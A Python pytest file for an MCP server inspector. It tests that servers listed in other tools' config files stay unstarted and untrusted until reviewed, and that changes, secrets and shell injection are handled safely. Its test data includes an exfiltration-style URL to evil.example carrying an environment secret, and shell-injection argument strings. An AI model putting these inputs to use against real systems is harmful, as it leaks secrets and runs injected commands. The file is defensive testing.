"""Servers in other tools' files: shown, and not used until the user trusts their exact content."""

from __future__ import annotations

import asyncio
import json
import os
import sys
from collections.abc import AsyncIterator, Sequence
from pathlib import Path

import pytest

from inspector.base.errors import ConfigError
from inspector.base.json.values import JSON, JSONObject
from inspector.config.servers.entries import StdioEntry
from inspector.engine.servers import inspection
from inspector.engine.servers.views import Trust
from inspector.engine.views import ServerStatus
from tests.unit.engine.servers.discovery_stage import Harness, fault, touching


@pytest.fixture
async def harness(tmp_path: Path) -> AsyncIterator[Harness]:
    harness = Harness(tmp_path)
    yield harness
    await harness.lab.engine.close()


async def test_found_servers_are_neither_started_nor_contacted(harness: Harness, tmp_path: Path) -> None:
    marker, contacts = tmp_path / "marker", 0

    def count(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal contacts
        contacts += 1
        writer.close()

    counter = await asyncio.start_server(count, "127.0.0.1", 0)
    port = counter.sockets[0].getsockname()[1]
    harness.write(runs=touching(marker), calls={"url": f"http://127.0.0.1:{port}/mcp"})
    engine = harness.lab.engine
    engine.servers.load()
    engine.servers.connector.connect_at_start()
    report = await harness.found.scan()
    engine.servers.connector.connect_all()
    assert {view.name: view.trust for view in report.servers} == {"runs": Trust.NONE, "calls": Trust.NONE}
    assert engine.servers.all() == ()
    for view in report.servers:
        with pytest.raises(ConfigError, match="No server named"):
            await engine.servers.connector.connect(view.name)
    # A server that was to be connected would be by now: it takes one round trip.
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.close()
    await writer.wait_closed()
    counter.close()
    await counter.wait_closed()
    assert not marker.exists()
    assert contacts == 1  # from the test itself


async def test_review_shows_everything_untruncated(harness: Harness) -> None:
    long = "x" * 4096
    harness.write(
        srv={
            "command": "python3",
            "args": ["server.py", long, "${HOME}"],
            "env": {"API_KEY": "k3y", "MODE": "${MODE:-fast}"},
        }
    )
    (harness.folder / "server.py").write_text("1")
    view = await harness.scan()
    assert (view.command, view.args) == ("python3", ("server.py", long, "${HOME}"))
    assert view.env_names == ("API_KEY", "MODE")
    assert view.variables == ("HOME", "MODE")
    assert view.folder == str(harness.folder)
    assert os.path.isabs(view.program)
    assert view.scripts == (str(harness.folder / "server.py"),)
    assert view.source.path == harness.file
    facts = dict(view.facts)
    assert facts["env.API_KEY"] == "•••"
    assert facts["args[1]"] == long
    assert "k3y" not in repr(view.facts)


async def test_servers_with_equal_names_are_both_shown_with_which_overrides_which(harness: Harness) -> None:
    harness.write(srv=fault())
    (harness.home / ".mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "x"}}}))
    report = await harness.found.scan()
    first, second = (view for view in report.servers if view.name == "srv")
    assert (first.source.path, first.overridden_by) == (harness.file, None)
    assert first.overrides == (second.source,)
    assert second.overridden_by == first.source


async def test_a_broken_file_is_reported_and_the_others_load(harness: Harness) -> None:
    harness.file.write_text('{"mcpServers": {\n  "a": }')
    (harness.home / ".mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "x"}}}))
    report = await harness.found.scan()
    assert [view.name for view in report.servers] == ["srv"]
    (problem,) = [file.problem for file in report.files if file.problem]
    assert "line 2" in problem


async def test_another_folder_can_be_searched(harness: Harness, tmp_path: Path) -> None:
    harness.write(srv=fault())
    other = tmp_path / "other"
    other.mkdir()
    (other / ".mcp.json").write_text(json.dumps({"mcpServers": {"there": fault()}}))
    report = await harness.found.scan(other)
    assert [(view.name, view.folder) for view in report.servers] == [("there", str(other))]


async def test_trusted_server_is_listed_in_this_run_and_the_next(harness: Harness) -> None:
    harness.write(srv=fault())
    view = await harness.trust()
    assert (view.trust, view.server) == (Trust.GIVEN, "srv")
    ours = harness.lab.view()
    assert (ours.is_saved, ours.status) == (False, ServerStatus.IDLE)
    assert str(harness.file) in ours.origin
    await harness.lab.engine.servers.connector.connect("srv")
    assert await harness.lab.text("echo", text="hello") == "hello"
    assert not harness.server_list.path.exists()
    await harness.lab.engine.close()

    lab = harness.start()
    assert (await harness.scan()).trust is Trust.GIVEN
    assert lab.view().status is ServerStatus.IDLE
    await lab.engine.servers.connector.connect("srv")


async def test_change_during_the_review_is_not_trusted(harness: Harness) -> None:
    harness.write(srv=fault())
    view = await harness.scan()
    harness.write(srv=fault("silent"))
    with pytest.raises(ConfigError, match=r"was changed in .* while you were reviewing it"):
        await harness.found.trust(view.id, view.seen)
    with pytest.raises(ConfigError, match="while you were reviewing it"):
        await harness.found.import_(view.id, view.seen)
    assert not harness.store.exists()
    assert harness.lab.engine.servers.all() == ()


async def test_server_that_loses_trust_is_disconnected_and_removed(harness: Harness) -> None:
    harness.write(srv=fault())
    view = await harness.trust()
    await harness.lab.engine.servers.connector.connect("srv")
    await harness.found.forget(view.id)
    assert harness.lab.engine.servers.all() == ()
    assert harness.found.view(view.id).trust is Trust.NONE


async def test_taken_name_gets_a_number(harness: Harness) -> None:
    harness.lab.engine.servers.save(StdioEntry(name="srv", command="x"))
    harness.write(srv=fault())
    view = await harness.trust()
    assert view.server == "srv 2"
    await harness.lab.engine.servers.connector.connect("srv 2")


async def test_server_in_claude_code_settings_is_trusted_like_others_and_its_rules_are_shown(
    harness: Harness,
) -> None:
    harness.lab.engine.servers.add(StdioEntry(name="srv", command="other"))
    settings = harness.folder / ".claude" / "settings.json"
    settings.parent.mkdir()
    rules: JSON = {"allow": ["mcp__srv__echo"], "ask": ["mcp__srv_2__*"]}
    settings.write_text(json.dumps({"mcpServers": {"srv": fault()}, "permissions": rules}))
    view = await harness.trust()
    assert "Current Claude Code ignores servers in settings.json" in view.notes[0]
    await harness.lab.engine.servers.connector.connect(view.server)
    assert view.server != "srv"
    report = harness.found.report
    for server in ("srv", view.server):  # in Claude Code, both are named `srv`
        permission = report.permission(server, "echo")
        assert permission is not None
        assert permission.label == "Claude Code: allows"
    assert report.permission(view.server, "other") is None


async def test_found_server_cannot_be_edited_or_removed_but_copied(harness: Harness) -> None:
    harness.write(srv=fault())
    before = harness.file.read_bytes()
    view = await harness.trust()
    entry = harness.lab.engine.servers.entry("srv")
    with pytest.raises(ConfigError, match="MCP Lens does not change"):
        await harness.lab.engine.servers.update("srv", entry)
    with pytest.raises(ConfigError, match="Stop trusting"):
        await harness.lab.engine.servers.remove("srv")
    copy = await harness.found.import_(view.id, view.seen, "mine")
    assert (copy.is_saved, copy.origin) == (True, "")
    assert harness.server_list.find("mine").name == "mine"
    await harness.lab.engine.servers.connector.connect("mine")
    assert harness.file.read_bytes() == before


async def test_import_is_saved_with_its_folder_and_input_values(harness: Harness) -> None:
    (harness.folder / ".vscode").mkdir()
    (harness.folder / ".vscode" / "mcp.json").write_text(
        json.dumps(
            {
                "inputs": [{"id": "key", "type": "promptString", "description": "Key", "password": True}],
                "servers": {
                    "srv": {"command": "x", "args": ["${workspaceFolder}/a"], "env": {"K": "${input:key}"}}
                },
            }
        )
    )
    view = await harness.scan()
    assert [(each.id, each.is_password) for each in view.inputs] == [("key", True)]
    await harness.found.import_(view.id, view.seen, "mine", {"key": "v"})
    entry = harness.server_list.find("mine")
    assert isinstance(entry, StdioEntry)
    assert (entry.args, entry.cwd) == ((f"{harness.folder}/a",), str(harness.folder))
    assert entry.env == {"K": "${input:key}"}
    assert await harness.lab.engine.secrets.get("input/mine/key") == "v"


async def test_a_swapped_argument_needs_a_new_review_and_not_started(
    harness: Harness, tmp_path: Path
) -> None:
    """T2: what a server runs is changed after the user trusted it."""
    marker = tmp_path / "marker"
    harness.write(srv=touching(marker, "good"))
    await harness.trust()
    harness.write(srv=touching(marker, "evil"))
    with pytest.raises(ConfigError, match=r"It changed in .* since you trusted it: args\[2\]"):
        await harness.lab.engine.servers.connector.connect("srv")
    assert not marker.exists()
    assert harness.lab.view().status is ServerStatus.FAILED
    (view,) = harness.found.report.servers
    assert view.trust is Trust.CHANGED
    (change,) = view.changes
    assert (change.field, change.before, change.after) == ("args[2]", "good", "evil")
    await harness.lab.engine.close()

    harness.start()
    assert (await harness.scan()).trust is Trust.CHANGED
    assert harness.lab.engine.servers.all() == ()
    await harness.trust()
    harness.lab.engine.servers.connector.connect_soon("srv")
    await harness.lab.until(ServerStatus.FAILED)  # it is not a server
    assert marker.read_text() == "['evil']"


async def test_a_script_that_was_rewritten_needs_a_new_review(harness: Harness) -> None:
    script = harness.folder / "server.py"
    script.write_text("raise SystemExit(3)")
    harness.write(srv={"command": sys.executable, "args": ["-u", "server.py"]})
    await harness.trust()
    script.write_text("raise SystemExit(4)")
    with pytest.raises(ConfigError, match=r"program\.scripts"):
        await harness.lab.engine.servers.connector.connect("srv")


async def test_a_program_that_was_replaced_needs_a_new_review(harness: Harness) -> None:
    program = harness.folder / "prog"
    program.write_text("#!/bin/sh\nexit 3\n")
    program.chmod(0o755)
    harness.write(srv={"command": str(program)})
    await harness.trust()
    program.write_text("#!/bin/sh\nexit 4\n")
    with pytest.raises(ConfigError, match=r"program\.sha256"):
        await harness.lab.engine.servers.connector.connect("srv")


async def test_error_while_a_server_is_inspected_does_not_hide_the_others(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Threat: a folder contains an entry that one of our checks cannot handle, and nothing is listed."""

    def fail(args: Sequence[str], folder: str) -> tuple[str, ...]:
        if "odd" in args:
            raise IndexError("odd")
        return ()

    monkeypatch.setattr(inspection, "scripts_of", fail)
    harness.write(odd={"command": sys.executable, "args": ["odd"]}, srv={"command": sys.executable})
    assert (await harness.scan("srv")).problem == ""
    odd = await harness.scan("odd")
    assert (odd.trust, odd.is_importable) == (Trust.NONE, False)
    assert odd.problem == "MCP Lens could not inspect it: IndexError."


@pytest.mark.parametrize(
    ("args", "file"),
    [
        (["-m", "tool"], "tool.py"),
        (["-u", "-m", "tool.sub"], "tool/sub.py"),
        (["-m", "tool"], "tool/__main__.py"),
        (["--directory", "{folder}/src", "run", "server.py"], "src/server.py"),
        (["--directory={folder}/src", "run", "server.py"], "src/server.py"),
        (["--directory", "src", "run", "server.py"], "src/server.py"),
        (["--directory=src", "/", "/bin", "/etc", "/usr", "/var", "server.py"], "src/server.py"),
        (["/", "/bin", "/etc", "/usr", "/var", "--directory=src", "server.py"], "src/server.py"),
        (["--require", "./hook.cjs"], "hook.cjs"),
        (["--import=./hook.mjs"], "hook.mjs"),
        (["."], "index.js"),
        (["./dist"], "dist/index.js"),
    ],
)
async def test_changed_file_referenced_by_the_arguments_needs_a_new_review(
    harness: Harness, args: list[str], file: str
) -> None:
    script = harness.folder / file
    script.parent.mkdir(exist_ok=True)
    script.write_text("1")
    words: list[JSON] = [word.format(folder=harness.folder) for word in args]
    harness.write(srv={"command": sys.executable, "args": words})
    assert (await harness.trust()).scripts == (str(script),)
    script.write_text("2")
    assert (await harness.scan()).trust is Trust.CHANGED


async def test_too_many_folders_to_check_for_a_script_cannot_be_trusted(harness: Harness) -> None:
    """T2: folders before the one with the script keep it out of the approval."""
    folders = [harness.folder / f"{number}" for number in range(40)]
    for folder in folders:
        folder.mkdir()
    harness.write(srv={"command": sys.executable, "args": [*map(str, folders), "server.py"]})
    assert "more than 32 folders" in (await harness.scan()).problem
    harness.write(srv={"command": sys.executable, "args": list(map(str, folders))})
    assert (await harness.scan()).problem == ""


async def test_big_files_among_the_arguments_do_not_delay_the_scan(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A repository can name any file on the machine, and contain a thousand links to it."""
    read: list[str] = []

    def hash_of(path: str, is_complete: bool) -> str:
        read.append(path)
        return real(path, is_complete)

    real = inspection.hash_of
    monkeypatch.setattr(inspection, "hash_of", hash_of)
    big = harness.folder / "big.js"
    with big.open("wb") as file:
        file.truncate(1 << 40)
    links = [harness.folder / f"link{number}.js" for number in range(500)]
    for link in links:
        link.symlink_to(big)
    harness.write(srv={"command": sys.executable, "args": [str(link) for link in links]})
    view = await harness.scan()
    assert sum(path.endswith(".js") for path in read) == 1
    assert len(view.scripts) == 500
    with big.open("r+b") as grown:
        grown.truncate((1 << 40) + 1)
    assert (await harness.scan()).seen != view.seen


@pytest.mark.parametrize(
    "members",
    [
        {"command": "x", "args": [f"${{V{number}}}" for number in range(101)]},
        {"command": "x", "args": ["x" * 300_000]},
        {"command": "x", "env": {f"V{number}": "x" * 100 for number in range(3000)}},
        {"url": f"https://h.example/{'x' * 300_000}"},
    ],
)
async def test_unreadable_server_is_neither_trusted_nor_imported(
    harness: Harness, members: JSONObject
) -> None:
    harness.write(srv=members)
    view = await harness.scan()
    assert "to review" in view.problem
    with pytest.raises(ConfigError, match="to review"):
        await harness.found.trust(view.id, view.seen)
    with pytest.raises(ConfigError, match="to review"):
        await harness.found.import_(view.id, view.seen, variables=view.variables)


async def test_existing_connection_stays_and_is_not_reconnected_automatically(harness: Harness) -> None:
    harness.write(srv=fault())
    await harness.trust()
    await harness.lab.engine.servers.connector.connect("srv")
    harness.write(srv=fault("silent"))
    assert (await harness.scan()).trust is Trust.CHANGED
    assert harness.lab.view().status is ServerStatus.CONNECTED
    with pytest.raises(ConfigError, match=r"changed in .* since you trusted it"):
        await harness.lab.engine.servers.connector.connect("srv")


async def test_server_removed_from_its_file_is_not_started(harness: Harness) -> None:
    harness.write(srv=fault(), other=fault())
    await harness.trust()
    harness.write(other=fault())
    with pytest.raises(ConfigError, match=r"is no longer in"):
        await harness.lab.engine.servers.connector.connect("srv")
    await harness.found.scan()
    assert harness.lab.engine.servers.all() == ()


async def test_approvals_that_cannot_be_read_trust_nothing_and_say_so(harness: Harness) -> None:
    harness.write(srv=fault())
    await harness.trust()
    harness.store.write_text("{")
    view = await harness.scan()
    assert view.trust is Trust.NONE
    assert "trust.json is not valid JSON" in harness.found.report.problem
    with pytest.raises(ConfigError, match="is not valid JSON"):
        await harness.lab.engine.servers.connector.connect("srv")


async def test_references_in_an_untrusted_url_are_not_expanded(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """T3: a URL in an untrusted file exfiltrates environment variables."""
    monkeypatch.setenv("LENS_SECRET", "s3cr3t-value")
    harness.write(srv={"url": "https://evil.example/?k=${LENS_SECRET}", "headers": {"X": "${LENS_SECRET}"}})
    view = await harness.scan()
    assert view.url == "https://evil.example/?k=${LENS_SECRET}"
    assert (view.variables, view.header_names) == (("LENS_SECRET",), ("X",))
    assert "s3cr3t-value" not in repr(harness.found.report)


async def test_variable_is_substituted_only_with_approval(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LENS_ONE", "one")
    monkeypatch.setenv("LENS_TWO", "two")
    harness.write(srv=fault(env={"A": "${LENS_ONE}", "B": "${LENS_TWO:-default}"}))
    await harness.trust()
    with pytest.raises(ConfigError, match="you have not approved the environment variable LENS_ONE"):
        await harness.lab.engine.servers.connector.connect("srv")
    await harness.trust(variables=("LENS_ONE", "PATH"))
    await harness.lab.engine.servers.connector.connect("srv")
    seen = json.loads(await harness.lab.text("environment"))
    assert (seen["A"], seen["B"]) == ("one", "default")
    stored = json.loads(harness.store.read_text())
    assert [approval["variables"] for approval in stored["approvals"]] == [["LENS_ONE"]]


async def test_file_cannot_reference_stored_secrets(harness: Harness) -> None:
    await harness.lab.engine.secrets.put("header/other/K", "s3cr3t")
    harness.write(srv={"url": "https://evil.example", "headers": {"K": {"ref": "header/other/K"}}})
    view = await harness.scan()
    assert view.problem
    assert not view.is_importable
    with pytest.raises(ConfigError):
        await harness.found.trust(view.id, view.seen)
    with pytest.raises(ConfigError):
        await harness.found.import_(view.id, view.seen)


async def test_copy_gets_no_unapproved_variable(harness: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
    """An imported server may use the whole environment, so each variable is approved first."""
    monkeypatch.setenv("LENS_ONE", "1")
    harness.write(srv=fault("${LENS_ONE}", "${LENS_TWO:-x}"))
    view = await harness.scan()
    for agreed in ((), ("LENS_ONE",)):
        with pytest.raises(ConfigError, match=r"The copy would get .*LENS_TWO"):
            await harness.found.import_(view.id, view.seen, variables=agreed)
    assert not harness.server_list.path.exists()
    await harness.found.import_(view.id, view.seen, variables=("LENS_ONE", "LENS_TWO"))
    entry = harness.server_list.find("srv")
    assert isinstance(entry, StdioEntry)
    assert entry.args[-2:] == ("${LENS_ONE}", "${LENS_TWO:-x}")


async def test_arguments_are_passed_verbatim_without_a_shell(harness: Harness, tmp_path: Path) -> None:
    """T4: arguments inject commands into a shell."""
    marker, touched = tmp_path / "marker", tmp_path / "x"
    words = [f"; touch {touched}", f"$(touch {touched})", f"`touch {touched}`", "& calc", "a b", "*", "$HOME"]
    harness.write(srv=touching(marker, *words))
    await harness.trust()
    harness.lab.engine.servers.connector.connect_soon("srv")
    await harness.lab.until(ServerStatus.FAILED)
    assert marker.read_text() == repr(words)
    assert not touched.exists()


@pytest.mark.parametrize("command", ["./npx", "bin/npx", "../npx"])
async def test_a_relative_command_is_shown_and_refused(harness: Harness, command: str) -> None:
    harness.write(srv={"command": command})
    view = await harness.scan()
    assert "relative path" in view.problem
    with pytest.raises(ConfigError, match="cannot be trusted: It starts a program by a relative path"):
        await harness.found.trust(view.id, view.seen)
    assert view.is_importable
    await harness.found.import_(view.id, view.seen)
    entry = harness.server_list.find("srv")
    assert isinstance(entry, StdioEntry)
    assert entry.command == str((harness.folder / command).resolve()), "the copy says where the program is"


async def test_program_in_the_folder_is_not_mistaken_for_one_on_the_path(
    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "marker"
    program = harness.folder / "lens-npx"
    program.write_text(f"#!/bin/sh\ntouch {marker}\n")
    program.chmod(0o755)
    monkeypatch.chdir(harness.folder)
    monkeypatch.setenv("PATH", f".{os.pathsep}{os.environ['PATH']}{os.pathsep}")
    harness.write(srv={"command": "lens-npx", "cwd": str(harness.folder)})
    view = await harness.trust()
    assert view.program == ""
    harness.lab.engine.servers.connector.connect_soon("srv")
    failed = await harness.lab.until(ServerStatus.FAILED)
    assert ": not found on PATH" in failed.reason
    assert not marker.exists()


async def test_server_does_not_inherit_our_environment(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """T5: a server process reads secrets from the inherited environment."""
    for name in ("MCP_PROXY_TOKEN", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "PYTHONPATH"):
        monkeypatch.setenv(name, "leaked")
    harness.write(srv=fault(env={"MINE": "1"}))
    await harness.trust()
    await harness.lab.engine.servers.connector.connect("srv")
    seen = json.loads(await harness.lab.text("environment"))
    assert "leaked" not in seen.values()
    assert seen["MINE"] == "1"


async def test_passing_the_whole_environment_is_part_of_the_approval(
    harness: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "key-of-the-user")
    harness.write(srv=fault())
    await harness.trust()
    harness.write(srv=fault(inheritEnvironment=True))
    view = await harness.scan()
    assert view.trust is Trust.CHANGED
    assert [(change.field, change.after) for change in view.changes] == [("inheritEnvironment", "true")]
    assert any("It gets your whole environment" in caution for caution in view.cautions)
    assert ("inheritEnvironment", "true") in view.facts
    with pytest.raises(ConfigError, match="changed"):
        await harness.lab.engine.servers.connector.connect("srv")
    await harness.trust()
    await harness.lab.engine.servers.connector.connect("srv")
    seen = json.loads(await harness.lab.text("environment"))
    assert seen["OPENAI_API_KEY"] == "key-of-the-user"
    assert b"key-of-the-user" in harness.lab.engine.log.credentials.names_by_value()
